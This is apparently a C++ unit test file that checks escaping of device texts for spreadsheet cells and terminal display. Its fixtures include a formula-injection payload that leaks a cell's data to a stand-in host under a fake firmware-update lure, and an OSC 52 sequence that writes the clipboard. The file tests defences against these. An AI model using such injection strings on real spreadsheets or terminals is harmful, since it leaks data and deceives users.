// Device texts made safe for spreadsheets and terminals, and the spreadsheet cell read back.
#include "protocol/text_escapes.h"

#include <gtest/gtest.h>

namespace netsonde {
namespace {

TEST(TextEscapesTest, FormulaStartsGetAnApostropheThatReadsBackExactly) {
    struct Case {
        const char* text;
        const char* cell;
    };
    const Case cases[] = {
        {"=HYPERLINK(\"http://x/?\"&B2,\"Firmware update required\")",
         "'=HYPERLINK(\"http://x/?\"&B2,\"Firmware update required\")"},
        {"+1", "'+1"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tcmd", "'\tcmd"},
        {"\rcmd", "'\rcmd"},
        // Already an apostrophe before a formula start: one more, so reading back is exact.
        {"'=1", "''=1"},
        {"''-x", "'''-x"},
        // Nothing a spreadsheet would run: unchanged, including a lone apostrophe and texts
        // that only hold such a character later.
        {"core-sw", "core-sw"},
        {"'quoted", "'quoted"},
        {"'", "'"},
        {" =1", " =1"},
        {"", ""},
        {"02-1f-00-0a-b3-7c", "02-1f-00-0a-b3-7c"},
    };
    for (const Case& c : cases) {
        EXPECT_EQ(SpreadsheetCell(c.text), c.cell) << c.text;
        EXPECT_EQ(SpreadsheetCellValue(c.cell), c.text) << c.cell;
    }
}

TEST(TextEscapesTest, TerminalTextShowsEveryControlCharacterAsHex) {
    struct Case {
        const char* utf8;
        const char* shown;
    };
    const Case cases[] = {
        {"\x1b]52;c;aGk=\x07", "\\x1B]52;c;aGk=\\x07"},  // OSC 52: would write the clipboard
        {"a\r\nb\x7f", "a\\x0D\\x0Ab\\x7F"},
        {"\xC2\x9B"
         "2J",
         "\\x9B2J"},  // C1 CSI as UTF-8
        {"B\xC3\xBCro \xC2\xA0\xE2\x86\x92", "B\xC3\xBCro \xC2\xA0\xE2\x86\x92"},  // printable
        {"\xC2", "\xC2"},  // a cut sequence is left to the font
    };
    for (const Case& c : cases) {
        EXPECT_EQ(TerminalText(c.utf8), c.shown) << c.utf8;
    }
}

}  // namespace
}  // namespace netsonde
